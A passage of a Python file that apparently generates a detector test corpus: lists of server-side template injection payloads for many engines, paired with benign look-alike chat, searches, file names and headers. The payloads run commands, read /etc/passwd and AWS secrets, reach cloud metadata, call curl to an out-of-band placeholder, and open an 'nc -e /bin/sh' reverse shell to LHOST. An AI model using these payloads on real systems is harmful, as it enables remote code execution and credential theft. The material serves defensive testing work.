    "{function name='x(){};system(\"id\");function '}{/function}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}",
    "{fetch file='/etc/passwd'}",
    "{if sleep(5)}{/if}",
]

# handlebars (Node.js: Express views, Ghost)
HANDLEBARS: list[Entry] = [
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return "
    "require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)"
    "}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return "
    "process.mainModule.require('child_process').execSync('sleep 5');\"}}{{this.pop}}{{#each conslist}}{{#with "
    "(string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{this.constructor.constructor}}",
    "{{lookup (lookup this 'constructor') 'constructor'}}",
    "{{#with (lookup this 'constructor') as |c|}}{{#with (c.constructor 'return process.env') as |f|}}{{f}}"
    "{{/with}}{{/with}}",
    "{{#each this}}{{@key}}={{this}} {{/each}}",
    "{{__proto__.constructor.constructor}}",
    "{{#with __lookupGetter__ as |g|}}{{g '__proto__'}}{{/with}}",
    "{{{constructor.constructor 'return process.mainModule.require(\"child_process\").execSync(\"id\")'}}}",
]

# pug / jade (Node.js)
PUG: list[Entry] = [
    "#{7*7}",
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "#{global.process.mainModule.require('child_process').execSync('cat /etc/passwd')}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('curl " + OOB + "')}()}",
    "\n- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n= x",
    "\n= global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "#{global.process.mainModule.require('child_process').execSync('sleep 5')}",
    "- global.process.mainModule.require('child_process').exec('nc -e /bin/sh " + LHOST + " 4444')",
    "p= process.env",
]

# mako (Python: Pyramid, Pylons)
MAKO: list[Entry] = [
    "${7*7}",
    "<%import os%>${os.popen('id').read()}",
    "${self.module.cache.util.os.system('id')}",
    "${self.template.module.cache.util.os.popen('cat /etc/passwd').read()}",
    "<% import subprocess; x=subprocess.check_output('id',shell=True) %>${x}",
    "${__import__('os').popen('uname -a').read()}",
    "<%! import os %>${os.environ}",
    "${__import__('time').sleep(5)}",
    "<%namespace name=\"x\" module=\"os\"/>${x.system('id')}",
]

# tornado (Python)
TORNADO: list[Entry] = [
    "{{7*7}}{{'a'*3}}",
    "{% import os %}{{os.popen('id').read()}}",
    "{% import subprocess %}{{subprocess.check_output(['cat','/etc/passwd'])}}",
    "{{__import__('os').popen('id').read()}}",
    "{% raw __import__('os').system('id') %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% include /etc/passwd %}",
    "{{__import__('time').sleep(5)}}",
]

# nunjucks (Node.js)
NUNJUCKS: list[Entry] = [
    "{{7*7}}{{'a'|upper}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return process.env\")()}}",
    "{{joiner.constructor(\"return global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")()}}",
    "{% set x = range.constructor(\"return global.process.mainModule.require('child_process')"
    ".execSync('uname -a')\")() %}{{x}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('sleep 5')\")()}}",
    "{{''.constructor.constructor(\"return this.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{range.constructor(\"return require('child_process').exec('curl " + OOB + "')\")()}}",
    "{{range.constructor(\"return this\")().process.env}}",
]

# ejs (Node.js: Express res.render with user options)
EJS: list[Entry] = [
    "<%= 7*7 %><%= 'a'.repeat(3) %>",
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% require('child_process').exec('curl http://" + OOB + "/ejs') %>",
    "<%- include('/etc/passwd') %>",
    "<%= global.process.mainModule.require('child_process').execSync('sleep 5') %>",
    kv("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
       QKV),
    kv("settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process.mainModule"
       ".constructor._load('child_process').execSync('id');", QKV),
    kv("settings[view options][localsName]=x=1;process.mainModule.require('child_process').execSync('id')//", KV),
]

# pebble (Java: Spring Boot views)
PEBBLE: list[Entry] = [
    "{{ 7*7 }}{{ 'a'|upper }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd)"
    ".inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes])"
    ".toArray()) }}",
    "{{ ''.getClass().forName('java.lang.Runtime') }}",
    "{{ (1).TYPE.forName('java.lang.Thread').sleep(5000) }}",
    "{% set x = beans.get('objectMapper') %}{{ x }}",
    "{{ request.getClass().getClassLoader() }}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{% set r = ''.getClass().forName('java.lang.Runtime') %}{{ r.getRuntime().exec('cat /etc/passwd') }}",
]

# razor (.NET: RazorEngine, ASP.NET views)
RAZOR: list[Entry] = [
    "@(7*7)",
    "@(1337*1337)@(\"x\".Length)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c curl http://" + OOB + "/razor\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@System.Environment.GetEnvironmentVariables()",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"powershell.exe\"; "
    "p.StartInfo.Arguments = \"-c id\"; p.Start(); }",
    "@System.Threading.Thread.Sleep(5000)",
    "@Html.Raw(System.IO.File.ReadAllText(\"/etc/passwd\"))",
]

# go-templates (Go text/template and html/template, Hugo, Helm/sprig)
GO_TPL: list[Entry] = [
    "{{printf \"%s%d\" \"ssti\" 1337}}",
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{define \"T1\"}}<script>alert(document.domain)</script>{{end}}{{template \"T1\"}}",
    "{{ .File \"/etc/passwd\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadFile \"/etc/passwd\" }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ (resources.GetRemote \"http://169.254.169.254/latest/meta-data/\").Content }}",
    "{{ call .Exec \"id\" }}",
]

# liquid (Ruby Shopify/Jekyll, liquidjs)
LIQUID: list[Entry] = [
    "{{ 7 | times: 7 }}",
    "{% assign x = 1337 | times: 1337 %}{{ x }}",
    "{% include '../../../../etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% include_relative ../../_config.yml %}",
    "{% for i in (1..100000000) %}{% endfor %}",
    "{{ 'ssti' | append: '1337' }}{{ 7 | plus: 7 }}",
    "{{ 'x' | constructor }}",
    "{% capture x %}{% include /proc/self/environ %}{% endcapture %}{{ x }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_META),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", PP),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "java-deserialization-gadgets", JAVA_GADGETS),
    ("java", "log4shell", LOG4J),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASSLOAD),
    ("java", "jsp-upload", JSP),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TPL),
    ("ssti", "liquid", LIQUID),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
# the parameter names each kind of tool fills in
NAMES: dict[str, list[str]] = {
    "ssrf": ["url", "callback", "webhook", "image_url", "feed", "redirect_uri", "link"],
    "php-data-scheme": ["page", "file", "include", "template", "lang", "path"],
    "ssti": ["name", "template", "greeting", "q", "message", "subject", "preview", "title"],
    "java": ["data", "q", "payload", "token", "state", "input", "name", "filter"],
    "generic": ["q", "name", "data", "input", "filter", "code", "expr", "search"],
}
# Java products' endpoints the regression-suite copy posts to
JAVA_PATHS = ["/invoker/JMXInvokerServlet", "/struts2-showcase/index.action", "/solr/admin/cores",
              "/wls-wsat/CoordinatorPortType", "/api/v1/items", "/index.action", "/post", "/"]
BYTE_SUBS = ("java-serialization", "java-deserialization-gadgets")


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    documents = True
    upload = JSP_CMD
    raw_places = ("query", "form", "param-name", "cookie", "rs-query", "rs-param-name", "rs-raw-body", "rs-cookie")
    unique = True
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        key = "ssrf" if sub.startswith("ssrf") else sub if sub in NAMES else category
        names = NAMES[key]
        return names[k % len(names)]

    def rs_path(self, category: str, sub: str, k: int) -> str:
        paths = JAVA_PATHS if category == "java" else RS_PATHS
        return paths[k % len(paths)]

    def is_latin(self, sub: str, payload: str) -> bool:
        """A serialized stream held as bytes: percent-encoded byte by byte."""
        return sub in BYTE_SUBS and all(ord(ch) < 0x100 for ch in payload) and any(
            ord(ch) >= 0x80 or ord(ch) < 0x20 for ch in payload)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """The bracket/binding `name=value` entries (kv()) go as the tool writes them."""
        return fixed and payload in RAW


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same tool names, keywords and syntax, typed innocently. A QA and DevOps team that runs security
# scanners in CI talks about pipelines, scan reports and tickets; engineers talk about their template engines,
# runtimes and cloud set-up; ordinary users type quotes, dashes, brackets and percent signs.
CHAT = [
    # CI security scanning, scan reports and tickets
    "nightly DAST job ran nuclei with the cves and misconfiguration templates against staging: 0 critical, 2 info",
    "sqlmap is pinned to 1.8 in the security-scan stage, please don't bump it without telling QA",
    "can someone look at why SSTImap flagged the greeting preview as jinja2? it's a React page, pretty sure it's a FP",
    "ysoserial isn't in the CI image anymore, we use the Burp extension for the Java deserialization checks",
    "reminder: the ZAP baseline scan posts its report to #sec-ci, please don't mute the channel",
    "Log4Shell retro notes are in Confluence, search for 'log4j 2.17 upgrade'",
    "all our Spring Boot services are on 3.2 now, so the Spring4Shell ticket can be closed",
    "the SSRF finding from the pentest was the webhook URL field; the fetcher now refuses link-local and private IPs",
    "does anyone have a good link for IMDSv2? I want to enforce it on every EC2 instance this sprint",
    "prototype pollution advisory for lodash below 4.17.21, dependabot already opened the PR",
    "commix found nothing on the upload form, as expected",
    "Dalfox and XSStrike both run in the weekly job, their JSON output lands in the artifacts bucket",
    "gopher:// is compiled out of our curl build, so the SSRFmap redis module has nothing to work with",
    "tplmap is unmaintained, we moved the template checks to SSTImap last month",
    "dotdotpwn took 40 minutes on the file endpoint, I capped the depth at 6",
    "NoSQLMap still needs python2, not adding that to the scanner image",
    "JNDI lookups are off by default since log4j 2.15 and we're on 2.21 anyway",
    "please stop pasting {{7*7}} into the staging chat bot, it just echoes {{7*7}} back 😅",
    "the nuclei run found an exposed /actuator/health, that one is intentional (k8s probes)",
    "marshalsec and the other JNDI tools are only allowed on the isolated pentest VLAN",
    "scan budget: nuclei rate limit is 50 req/s on staging, 10 on prod-like",
    "ticket SEC-1451 is done: the image proxy no longer follows redirects to 169.254.x.x",
    "QA sign-off for 2.8.0: smoke 100%, regression 98.7%, DAST clean",
    "the ReDoS alert was the email regex in signup; rewrote it without nested quantifiers",
    # engineers talking about their stacks
    "the jinja2 templates in the email service have autoescape on now",
    "quick one: Thymeleaf escapes th:text by default, th:utext doesn't, right?",
    "Freemarker upgrade to 2.3.32 is in this sprint, with the SAFER_RESOLVER for new_builtin_class_resolver",
    "pug to nunjucks migration is done for the marketing site 🎉",
    "Handlebars partials moved to views/partials, update your includes",
    "ERB templates in the ops dashboard (Rails 7) have a linter now",
    "the old Perl CGI scripts are finally gone from the intranet box",
    "fastjson autoType is disabled in every service, the dependency scanner confirms it",
    "XStream is on 1.4.20 with an allowTypes whitelist, see ADR-014",
    "nobody uses Jackson's enableDefaultTyping anymore, the last service was fixed in May",
    "who owns the Go service that renders Helm charts? the linter flagged text/template, probably fine",
    "support manages the Liquid templates for the help center themselves",
    "the old PHP shop is on Smarty 4 now",
    "node --max-old-space-size=4096 fixed the OOM in the frontend build",
    "qs caps array indexes at 20, so a[999]=x just becomes an object key, nothing to worry about",
    "Velocity templates in the Confluence space are read-only for everyone except admins",
    "the Razor views in the legacy .NET portal get retired in Q3",
    "EJS is only used for the status page, and it never renders user input",
    "Ruby 3.3 bump broke one YAML.safe_load call, needed permitted_classes: [Date]",
    "mako is still in the billing service, Pyramid app from 2016",
    "tornado websocket server restarted after the config change",
    "the Pebble templates in the invoice service compile at startup now",
    # ordinary chat with quotes, dashes, brackets, percent signs and code-like text
    "50% off the team lunch if we close every Sev-2 by Friday :)",
    "out Mon–Wed, back Thursday; ping @ana for anything urgent",
    "deploy window is 14:00-15:00 UTC (don't merge after 13:45!)",
    "re: \"the dashboard is slow\" — it's the ${region} variable not resolving in Grafana",
    "CPU hit 95% on build-runner-3 again while the sqlmap job ran with --threads=10",
    "my bio says [she/her] — is the bracket OK in the directory?",
    "O'Neil's team is moving to the 4th floor next week",
    # bios
    "QA engineer. I own the DAST stage in CI: ZAP, Nuclei, sqlmap and SSTImap. Coffee-driven.",
    "AppSec. Java deserialization and SSRF nerd, former pentester, now mostly reviewing PRs.",
    "DevOps: Terraform, GitHub Actions, and enforcing IMDSv2 one account at a time.",
    "Node.js developer. Express, Handlebars and way too many npm audit warnings.",
    "Ruby on Rails since 2012. ERB, RSpec and strong opinions about YAML.",
    "Perl hacker turned Go developer. I still miss qw().",
    "Java/Spring engineer. Thymeleaf, Freemarker, and Log4j upgrades I'd rather forget.",
]

SEARCHES = [
    "nuclei", "sqlmap", "ysoserial", "log4j", "log4shell", "jndi", "ssrf", "tplmap", "sstimap", "commix",
    "dalfox", "xsstrike", "dotdotpwn", "ssrfmap", "gopherus", "marshalsec", "ppmap", "nosqlmap", "burp", "zap",
    "jinja", "twig", "freemarker", "velocity", "thymeleaf", "handlebars", "pug", "mako", "tornado", "nunjucks",
    "ejs", "pebble", "razor", "liquid", "smarty", "erb", "spring", "struts", "java", "ruby", "perl", "node.js",
    "prototype", "metadata", "imds", "o'neil", "50%", "[contractor]", "C#", "ruby-on-rails", "José", "dast",
]

URLS = [
    "https://github.com/projectdiscovery/nuclei-templates",
    "https://docs.projectdiscovery.io/tools/nuclei/running",
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://github.com/frohoff/ysoserial",
    "https://github.com/vladko312/SSTImap",
    "https://github.com/epinna/tplmap",
    "https://github.com/commixproject/commix",
    "https://github.com/hahwul/dalfox",
    "https://github.com/s0md3v/XSStrike",
    "https://github.com/swisskyrepo/SSRFmap",
    "https://github.com/tarunkant/Gopherus",
    "https://github.com/mbechler/marshalsec",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://freemarker.apache.org/docs/app_faq.html#faq_template_uploading_security",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://spring.io/security/cve-2022-22965",
    "https://nodejs.org/api/vm.html",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://portswigger.net/web-security/prototype-pollution/server-side",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://ci.example.com/job/dast-nightly/412/artifact/reports/nuclei.json",
    "https://gitlab.example.com/qa/security-pipeline/-/blob/main/.gitlab-ci.yml",
]

PROSE = [
    "nuclei scan report - staging - June",
    "sqlmap findings triage",
    "Log4Shell remediation tracker",
    "SSRF fix: webhook URL validation",
    "ysoserial gadget check results (none exploitable)",
    "jinja2 template owners",
    "users in group qa-dast",
    "AppSec office hours: Java deserialization Q&A",
    "SEC-1432: SSTImap false positive on /preview",
    "SEC-1440: prototype pollution in lodash.merge (dependency)",
    "SEC-1451: image proxy and the cloud metadata address",
    "runbook: rotating the nuclei cloud API key",
    "Ruby 3.3 upgrade - ERB views",
    "Perl retirement project",
    "Node 20 LTS migration - Handlebars, Pug, EJS",
    "freemarker/velocity template inventory",
    "thymeleaf layout dialect upgrade",
    "Go text/template vs html/template guidance",
    "Razor pages owners (.NET 8)",
    "Smarty 4 upgrade - old shop",
    "data: URIs in avatars - allowed image types",
    "regex timeout (ReDoS) guidelines",
    "JSON body size limit 1 MB",
    "QA: 100% pass rate on smoke tests",
    "contractors [2024] - Q3",
    "on-call (primary/secondary) rota",
    "José O'Connor - access review",
    "C# / .NET guild",
    "Node.js & TypeScript guild",
    "Java 21 migration (Spring Boot 3)",
    "tool approvals: Burp Suite Pro, ZAP, Nuclei",
    "pipeline stage 'dast' timing out",
    "scan-report-2024-06-12.html",
    "IMDSv2 enforcement status",
    "internal IP ranges allow-list for the scanners",
    "XML import guide (users.xml)",
    "YAML config examples for the CI runners",
    "deserialization allow-list ADR",
    "template injection training - slides",
    "Struts 1 app decommission plan",
]

PROFILES = [
    ("Nuclei Labs GmbH", "Torstraße 140, Berlin"),
    ("Ruby Castellanos", "Calle Mayor 12, Madrid"),
    ("Perla Jiménez", "Av. Insurgentes Sur 300, Ciudad de México"),
    ("Jinja Sushi Bar", "Ginza 4-5-1, Tokyo"),
    ("Velocity Logistics", "Dock 7, Rotterdam"),
    ("Pebble & Stone Landscaping", "Mill Rd 3, Cambridge"),
    ("Liquid Studio", "Via Tortona 27, Milan"),
    ("Twig & Leaf Florist", "Rue Oberkampf 61, Paris"),
    ("Thyme Leaf Café", "Vesterbrogade 9, Copenhagen"),
    ("Mako Marine Supplies", "Harbour Dr 22, Cairns"),
    ("Tornado Sports Club", "Main St 9, Norman"),
    ("Razor Barbers", "High St 5, Bristol"),
    ("Pug Rescue Society", "Elm Ave 18, Portland"),
    ("Spring Garden Nursery", "Garden Ln 2, York"),
    ("Java House Coffee", "Ngong Rd 1, Nairobi"),
    ("Node Coworking", "Rua do Ouro 88, Porto"),
    ("O'Malley & Daughters", "Quay St 4, Galway"),
    ("Smarty Pants Tutoring", "King St W 120, Toronto"),
    ("Struts Dance Academy", "Karl Johans gate 3, Oslo"),
    ("Gopher Hole Golf", "Prairie Rd 4, Winnipeg"),
]

UPLOAD_NAMES = [
    "nuclei-report-2024-06-12.json", "sqlmap-output.zip", "zap-baseline-report.html", "dast-summary (June).pdf",
    "sstimap_results.txt", "log4j-inventory.xlsx", "ssrf-retest-notes.md", "ysoserial-check.log",
    "burp-project-2024-06.burp", "dalfox-staging.json", "team photo [offsite].jpg", "Q2 OKRs - QA & DevOps.pptx",
    "pipeline.yml", ".gitlab-ci.yml", "Jenkinsfile", "templates-inventory.csv", "jinja2-style-guide.pdf",
    "thymeleaf_migration.docx", "handlebars-partials.zip", "O'Connor-contract.pdf", "100% coverage badge.png",
    "metadata-service-audit.xlsx", "prototype-pollution-advisory.pdf", "users_import_2024-06.csv",
    "résumé-ana.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "GitLab-Runner 16.11.0 (16-11-stable; go1.21.9; linux/amd64)"),
    ("User-Agent", "Jenkins/2.440.3"),
    ("User-Agent", "axios/1.7.2"),
    ("User-Agent", "Java/17.0.11"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "Ruby"),
    ("Referer", "https://ci.example.com/job/dast-nightly/412/console"),
    ("Referer", "https://github.com/projectdiscovery/nuclei-templates/tree/main/http/cves"),
    ("Referer", "https://gitlab.example.com/qa/security-pipeline/-/jobs/88123"),
    ("Referer", "https://www.google.com/search?q=log4j+2.17+release+notes"),
    ("Referer", "https://app.example.com/admin/users/search?q=%5Bcontractor%5D"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Api-Version", "v2"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en;q=0.8"),
    ("X-Request-Id", "7d1e2c4a-9b3f-4e6d-8a21-5c0f9e7b3d42"),
    ("Traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    ("Cookie", "session=abc123; theme=dark; tz=America%2FSao_Paulo"),
    ("Cookie", "session=abc123; last_report=nuclei-2024-06-12; page_size=50"),
    ("X-Forwarded-For", "203.0.113.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
